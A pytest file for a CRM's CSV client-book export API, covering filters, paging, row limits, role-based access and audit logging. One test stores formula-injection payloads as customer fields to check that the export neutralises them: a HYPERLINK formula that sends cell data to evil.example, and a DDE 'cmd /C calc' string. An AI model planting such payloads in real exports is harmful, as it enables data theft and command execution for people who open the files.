"""Exporting a client book as CSV over the API: the filtered book (every page), audited per client.

The team (tests/associates/staff.py): Ana (associate, Paris), Ben (associate, New York), Mia (online
expert, US), Max (store manager, Paris), Ada (head office). Today is 23 November 2026.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from sqlalchemy import func, select

from rapport.app import create_app
from rapport.associates import audit, tokens
from rapport.associates.models import AuditEvent
from rapport.clientbook import export
from tests.associates.staff import Team, cheap_hashing
from tests.associates.staff import team as staff
from tests.statements import statements
from tests.web.conftest import signed_in
from tests.web.shop import accepted, coats, sale

ANA, BEN = "ana@maison.example", "ben@maison.example"
HEADER = [
    "id", "name", "email", "phone", "city", "country", "tier",
    "last_purchase_date", "net_spend", "currency", "tags", "next_milestone",
]  # fmt: skip


@pytest.fixture(autouse=True)
def _cheap_hashing() -> Iterator[None]:
    with cheap_hashing():
        yield


@pytest.fixture
def people(db) -> Team:
    return staff(db)


@pytest.fixture
def app(db) -> FastAPI:
    return create_app()


def signed_in_as(app: FastAPI, email: str) -> TestClient:
    browser = TestClient(app, follow_redirects=False)
    signed_in(browser, email)
    return browser


def token_client(db, app: FastAPI, scopes: list[str]) -> TestClient:
    with db.write() as session:
        issued = tokens.create_token(session, "crm-export", scopes)
    api = TestClient(app)
    api.headers["Authorization"] = f"Bearer {issued.token}"
    return api


def customer(db, ref: str, first: str, last: str, **extra) -> int:
    record = {"source": "web", "id": ref, "first_name": first, "last_name": last, **extra}
    (cid,) = accepted(db, "customers", record)
    assert cid is not None
    return cid


@pytest.fixture
def books(db, people) -> dict[str, int]:
    """Ana's book (Paris, euros) of three clients; Ben's (New York) of one."""
    coats(db)
    ids = {
        "alicia": customer(
            db, "alicia", "Alicia", "Moreau", assigned_associate=ANA, home_store="PAR", tier="Gold",
            tags=["vip"], birth_date="1990-11-28", emails=["alicia@example.com"], phones=["+33 6 12 34 56 78"],
            addresses=[{"city": "Paris", "country": "FR", "primary": True}],
        ),
        "bruno": customer(db, "bruno", "Bruno", "Petit", assigned_associate=ANA, home_store="PAR"),
        "chloe": customer(db, "chloe", "Chloé", "Martin", assigned_associate=ANA, tags=["vip", "bridal"],
                          emails=["chloe@example.com"]),
        "grace": customer(db, "grace", "Grace", "Hopper", assigned_associate=BEN, home_store="NYC"),
    }  # fmt: skip
    sale(db, "S1", "alicia", at="2026-11-02T10:00:00Z")
    sale(db, "S2", "bruno", at="2026-06-01T10:00:00Z", sku="SCARF", price="80.00")
    return ids


def rows_of(response: httpx.Response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 with a byte order mark
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    header, *rows = list(reader)
    assert header == HEADER
    return [dict(zip(header, row, strict=True)) for row in rows]


def exported(db) -> list[tuple[int | None, str, int | None, str | None]]:
    """``client.exported`` audit rows: (customer, actor kind, actor id, ip), oldest first."""
    with db.read() as session:
        rows = session.execute(
            select(AuditEvent.customer_id, AuditEvent.actor_kind, AuditEvent.actor_id, AuditEvent.ip)
            .where(AuditEvent.action == audit.EXPORTED)
            .order_by(AuditEvent.id)
        )
        return [tuple(r) for r in rows]


# -- the file ---------------------------------------------------------------------------------------


def test_the_file_is_the_filtered_book_with_contacts_spend_and_milestones(db, app, people, books):
    ana = signed_in_as(app, ANA)
    response = ana.get(f"/api/v1/clientbook/{people.ana}/export.csv", params={"tags": "vip"})
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == 'attachment; filename="client-book-ana-duval-2026-11-23.csv"'
    assert response.headers["cache-control"] == "private, no-store"
    assert rows_of(response) == [
        {"id": str(books["alicia"]), "name": "Alicia Moreau", "email": "alicia@example.com", "phone": "+33612345678",
         "city": "Paris", "country": "FR", "tier": "Gold", "last_purchase_date": "2026-11-02", "net_spend": "1200.00",
         "currency": "EUR", "tags": "vip", "next_milestone": "2026-11-28 Birthday"},
        {"id": str(books["chloe"]), "name": "Chloé Martin", "email": "chloe@example.com", "phone": "", "city": "",
         "country": "", "tier": "", "last_purchase_date": "", "net_spend": "0.00", "currency": "EUR",
         "tags": "vip, bridal", "next_milestone": ""},
    ]  # fmt: skip


def test_sorting_and_every_filter_of_the_book_apply_to_the_file(app, people, books):
    ana = signed_in_as(app, ANA)
    url = f"/api/v1/clientbook/{people.ana}/export.csv"
    names = lambda params: [r["name"] for r in rows_of(ana.get(url, params=params))]  # noqa: E731
    assert names({}) == ["Alicia Moreau", "Bruno Petit", "Chloé Martin"]  # the book's own order
    assert names({"sort": "name", "order": "desc"}) == ["Bruno Petit", "Alicia Moreau", "Chloé Martin"]
    assert names({"min_spend": 8000}) == ["Alicia Moreau", "Bruno Petit"]
    assert names({"purchased_before": "2026-10-01"}) == ["Bruno Petit"]
    assert names({"milestone_within_days": 7}) == ["Alicia Moreau"]
    assert names({"tags": "vip,bridal"}) == ["Chloé Martin"]
    assert names({"tags": "nobody"}) == []  # the header alone
    refused = ana.get(url, params={"purchased_after": "last week"})
    assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "purchased_after"


def test_every_page_of_a_long_book_is_exported_and_audited_in_one_statement(db, app, people, monkeypatch):
    monkeypatch.setattr(export, "PAGE_SIZE", 100)  # three pages, without registering thousands of clients
    accepted(db, "customers", *[
        {"source": "web", "id": f"c{n:03}", "first_name": "Client", "last_name": f"{n:03}", "assigned_associate": ANA}
        for n in range(export.PAGE_SIZE + 130)
    ])  # fmt: skip
    ana = signed_in_as(app, ANA)
    with statements(db) as seen:
        rows = rows_of(ana.get(f"/api/v1/clientbook/{people.ana}/export.csv", params={"sort": "name"}))
    assert [r["name"] for r in rows] == [f"Client {n:03}" for n in range(export.PAGE_SIZE + 130)]
    audited = exported(db)
    assert len(audited) == export.PAGE_SIZE + 130
    assert sorted(cid for cid, *_ in audited) == sorted(int(r["id"]) for r in rows)
    inserts = [s for s in seen if s.lstrip().upper().startswith("INSERT INTO AUDIT_EVENT")]
    assert len(inserts) == 1  # one multi-row insert, not one per client


def test_more_clients_than_an_export_holds_is_refused_and_nothing_audited(db, app, people, books, monkeypatch):
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    ana = signed_in_as(app, ANA)
    refused = ana.get(f"/api/v1/clientbook/{people.ana}/export.csv")
    assert refused.status_code == 422
    assert refused.json()["errors"] == [
        {"field": "filters", "message": "3 clients match; an export holds at most 2: narrow the filters"}
    ]
    assert exported(db) == []
    assert len(rows_of(ana.get(f"/api/v1/clientbook/{people.ana}/export.csv", params={"tags": "vip"}))) == 2


def test_values_a_spreadsheet_would_run_as_formulas_are_neutralised(db, app, people):
    evil = customer(
        db, "evil", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", tier="@SUM(A1:A9)",
        tags=["-2+3", "ok"], assigned_associate=ANA, phones=["+1 212 555 0100"],
        addresses=[{"city": "=1+1", "country": "US", "primary": True}],
    )  # fmt: skip
    (row,) = rows_of(signed_in_as(app, ANA).get(f"/api/v1/clientbook/{people.ana}/export.csv"))
    assert row["id"] == str(evil)
    assert row["name"] == """'=HYPERLINK("http://evil.example/?"&A1,"Click") +cmd|' /C calc'!A0"""
    assert row["tier"] == "'@SUM(A1:A9)" and row["city"] == "'=1+1" and row["tags"] == "'-2+3, ok"
    assert row["phone"] == "+12125550100"  # a plain number cannot be a formula: kept as it is


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Alicia", "Alicia"), ("a=1", "a=1"), ("", ""),
        ("-80.00", "-80.00"), ("+33612345678", "+33612345678"), ("-", "'-"), ("+", "'+"),
    ],
)  # fmt: skip
def test_neutralise(value, cell):
    assert export.neutralise(value) == cell


# -- who may export, and the audit log ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("email", "whose", "status"),
    [
        (ANA, "ana", 200),
        (ANA, "ben", 403),  # another associate's book
        ("mia@maison.example", "ana", 403),
        ("max@maison.example", "ana", 200),  # his team
        ("max@maison.example", "ben", 403),  # another store's team
        ("ada@maison.example", "ben", 200),  # head office
    ],
)
def test_each_role_exports_the_books_it_may_read_and_only_those(db, app, people, books, email, whose, status):
    response = signed_in_as(app, email).get(f"/api/v1/clientbook/{getattr(people, whose)}/export.csv")
    assert response.status_code == status, response.text
    if status == 403:
        assert response.json()["error"] == "forbidden" and exported(db) == []
    else:
        assert len(rows_of(response)) == len(exported(db)) > 0


def test_a_token_exports_with_the_read_scope_and_an_unknown_book_is_not_found(db, app, people, books):
    reader = token_client(db, app, ["read"])
    assert [r["name"] for r in rows_of(reader.get(f"/api/v1/clientbook/{people.ben}/export.csv"))] == ["Grace Hopper"]
    (row,) = exported(db)
    assert row[:2] == (books["grace"], "token")
    assert token_client(db, app, ["ingest"]).get(f"/api/v1/clientbook/{people.ben}/export.csv").status_code == 403
    assert reader.get("/api/v1/clientbook/9999/export.csv").status_code == 404
    assert TestClient(app).get(f"/api/v1/clientbook/{people.ben}/export.csv").status_code == 401
    assert len(exported(db)) == 1


def test_each_exported_client_is_on_the_audit_log_once_with_who_when_and_where(db, app, people, books, fixed_clock):
    ana = signed_in_as(app, ANA)
    rows_of(ana.get(f"/api/v1/clientbook/{people.ana}/export.csv", params={"tags": "vip"}))
    assert exported(db) == [(books["alicia"], "associate", people.ana, "testclient"),
                            (books["chloe"], "associate", people.ana, "testclient")]  # fmt: skip
    reader = token_client(db, app, ["audit"])
    body = reader.get("/api/v1/audit", params={"action": "client.exported"}).json()
    assert sorted(e["customer_id"] for e in body["events"]) == sorted([books["alicia"], books["chloe"]])
    first = body["events"][0]
    assert first["actor_label"] == "associate:Ana Duval" and first["at"] == "2026-11-23T15:00:00Z"
    assert first["detail"] == {"format": "csv", "book_of": people.ana, "rows": 2, "sort": "last_purchase desc",
                               "filters": {"tags": ["vip"]}}  # fmt: skip
    manager = signed_in_as(app, "max@maison.example")
    alicia = manager.get("/api/v1/audit", params={"customer_id": books["alicia"], "action": "client.exported"})
    assert [e["actor_id"] for e in alicia.json()["events"]] == [people.ana]


def test_the_audit_rows_are_written_as_record_by_writes_them(db, people):
    actor = audit.AuditActor("associate", people.ana, "associate:" + "A" * 300, "203.0.113.9" * 10, "UA" * 400)
    with db.write() as session:
        assert export.record_many_by(session, actor, audit.EXPORTED, [5, 6, 5], detail={"format": "csv"}) == 2
        assert export.record_many_by(session, actor, audit.EXPORTED, []) == 0
        audit.record_by(session, actor, audit.EXPORTED, customer_id=7, detail={"format": "csv"})
    with db.read() as session:
        seven, six, five = audit.list_events(session).events
        total = session.scalar(select(func.count()).select_from(AuditEvent))
    assert total == 3 and (five.customer_id, six.customer_id) == (5, 6)
    for made in (five, six):
        assert (made.at, made.actor_label, made.ip, made.user_agent, made.detail) == (
            seven.at, seven.actor_label, seven.ip, seven.user_agent, seven.detail,
        )  # fmt: skip
    with db.write() as session, pytest.raises(ValueError, match="actor_kind"):
        export.record_many_by(session, audit.AuditActor("robot", 1, "r2"), audit.EXPORTED, [1])
